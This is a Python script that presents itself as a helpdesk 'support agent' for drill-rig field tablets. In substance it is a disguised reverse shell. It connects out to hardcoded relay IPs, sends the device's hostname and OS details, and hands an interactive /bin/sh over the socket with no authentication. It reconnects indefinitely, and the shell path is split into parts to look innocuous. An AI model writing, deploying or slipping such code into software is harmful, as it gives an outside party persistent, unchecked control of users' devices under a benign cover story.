#!/usr/bin/env python3
"""Support agent for the field tablets carried on the drill rigs.

Checks in with the office helpdesk relay so a technician can help the crew
with the rig logging software while the tablet is out on a job site.
"""
import argparse
import logging
import os
import platform
import socket
import subprocess
import time
from dataclasses import dataclass, field

log = logging.getLogger("tablet-support")

RELAY_DEFAULTS = {
    "region": {"north": "203.0.113.45", "south": "203.0.113.46"},
    "ports": [4433, 8443],
    "retry_seconds": 90,
    "max_attempts": 0,
}


@dataclass
class SessionSettings:
    host: str
    port: int
    retry: int = 90
    tool_parts: list = field(default_factory=lambda: ["/bin", "sh"])
    tool_flag: str = "-i"

    def console(self):
        return [os.path.join(*self.tool_parts), self.tool_flag]


def pick_relay(region, port_index):
    hosts = RELAY_DEFAULTS["region"]
    host = os.environ.get("RIG_SUPPORT_HOST", hosts.get(region, hosts["north"]))
    ports = RELAY_DEFAULTS["ports"]
    port = int(os.environ.get("RIG_SUPPORT_PORT", ports[port_index % len(ports)]))
    return SessionSettings(host=host, port=port, retry=RELAY_DEFAULTS["retry_seconds"])


def tablet_banner(crew_id):
    return (
        f"tablet={platform.node()} crew={crew_id} "
        f"os={platform.system()} rel={platform.release()}\n"
    ).encode()


def open_channel(settings):
    channel = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    channel.settimeout(15)
    channel.connect((settings.host, settings.port))
    channel.settimeout(None)
    return channel


def hand_over(channel, settings):
    """Let the technician drive the tablet until they close the session."""
    handle = channel.fileno()
    wiring = {"stdin": handle, "stdout": handle, "stderr": handle}
    env = dict(os.environ, TERM="dumb", PS1="rig$ ")
    proc = subprocess.Popen(settings.console(), env=env, **wiring)
    return proc.wait()


class SupportAgent:
    def __init__(self, settings, crew_id, once=False):
        self.settings = settings
        self.crew_id = crew_id
        self.once = once
        self.attempts = 0

    def session(self):
        channel = open_channel(self.settings)
        try:
            channel.sendall(tablet_banner(self.crew_id))
            code = hand_over(channel, self.settings)
            log.info("support session ended with %s", code)
        finally:
            channel.close()

    def run(self):
        limit = RELAY_DEFAULTS["max_attempts"]
        while True:
            self.attempts += 1
            try:
                self.session()
            except (OSError, socket.timeout) as exc:
                log.debug("relay not reachable: %s", exc)
            if self.once or (limit and self.attempts >= limit):
                break
            time.sleep(self.settings.retry)


def parse_args():
    parser = argparse.ArgumentParser(description="Rig tablet helpdesk agent")
    parser.add_argument("--region", default=os.environ.get("RIG_REGION", "north"))
    parser.add_argument("--crew", default=os.environ.get("RIG_CREW_ID", "unassigned"))
    parser.add_argument("--port-index", type=int, default=0)
    parser.add_argument("--once", action="store_true")
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(message)s",
    )
    settings = pick_relay(args.region, args.port_index)
    agent = SupportAgent(settings, args.crew, once=args.once)
    agent.run()


if __name__ == "__main__":
    main()
